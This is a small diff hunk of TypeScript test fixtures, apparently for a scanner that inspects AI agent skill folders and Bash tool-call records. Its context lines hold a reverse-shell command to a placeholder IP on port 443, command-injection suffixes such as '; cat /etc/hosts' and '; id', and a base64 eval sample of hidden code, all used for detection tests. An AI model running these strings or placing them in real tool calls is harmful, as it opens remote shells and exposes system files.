@@ -6,7 +6,7 @@ const shell = 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1';
 const record = (command: string): string => `{"tool_name":"Bash","tool_input":{"command":"${command}"}}`;
 const suffixes = ['; id', '| id', '&& id', '; sleep 9', '; cat /etc/hosts', `; ${shell}`].join('\n');
 const page = (text: string) =>
-  folderOf({ 'SKILL.md': `${opening}See references/a.md.\n`, 'references/a.md': text });
+  folderOf({ 'SKILL.md': `${opening}Read references/a.md.\n`, 'references/a.md': text });
 const evaluated = 'eval(Buffer.from(text, "base64").toString())';
 const samples = (lead: string): string =>
   `# Packages\n\n${lead}\n\n\`\`\`javascript\n// The scanner looks for:\n// 1. Suspicious calls\nfetch(at)\n// 2. Hidden code\n${evaluated}\n\`\`\`\n`;
